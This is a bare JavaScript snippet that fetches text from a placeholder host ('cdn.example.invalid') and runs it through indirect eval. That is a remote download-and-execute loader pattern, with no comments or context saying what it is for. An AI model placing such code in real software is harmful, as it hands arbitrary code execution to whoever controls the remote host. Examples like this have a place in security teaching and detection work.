async function grab () {
  const answer = await fetch('https://cdn.example.invalid/x')
  return answer.text()
}

function apply (text) {
  return (0, eval)(text)
}

grab().then(apply)
